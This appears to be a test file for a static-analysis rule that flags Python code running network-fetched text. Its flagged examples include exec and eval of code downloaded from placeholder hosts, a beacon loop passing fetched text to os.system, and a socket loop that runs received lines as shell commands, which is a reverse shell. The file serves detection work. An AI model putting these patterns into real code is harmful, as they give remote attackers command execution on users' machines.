import ast
import os
import socket
import subprocess
import time
import urllib.request
from urllib.request import urlopen

import requests


def palette():
    try:
        # ruleid: python-network-text-run-as-code
        exec(__import__("requests").get("http://cdn.example.org/p/1").text)
    except Exception:
        pass


def on_import(name):
    answer = urlopen("https://paste.example.net/raw/" + name).read()
    source = answer.decode("utf-8").split("#--")[1]
    # ruleid: python-network-text-run-as-code
    eval(compile(source, name, "exec"))


def run(order):
    # ruleid: python-network-text-run-as-code
    p = subprocess.Popen(order, shell=True, stdout=subprocess.PIPE)
    return p.stdout.read()


def talk(host):
    conn = socket.create_connection((host, 8443))
    while True:
        line = conn.recv(2048).decode()
        conn.send(run(line))


class Web:
    def __init__(self):
        self.opener = urllib.request.build_opener()

    def take(self, url):
        return self.opener.open(url, timeout=4).read()


web = Web()


def beat(url):
    while True:
        text = web.take(url).decode()
        # ruleid: python-network-text-run-as-code
        os.system(text)
        time.sleep(60)


def version():
    # ok: python-network-text-run-as-code
    return int(requests.get("https://example.net/version").text)


def table():
    # ok: python-network-text-run-as-code
    return ast.literal_eval(requests.get("https://example.net/table").text)


def script(path):
    with open(path) as f:
        # ok: python-network-text-run-as-code
        exec(f.read())


def tag(url):
    name = requests.get(url).json()["tag"]
    # ok: python-network-text-run-as-code
    subprocess.run(["git", "checkout", name], check=True)
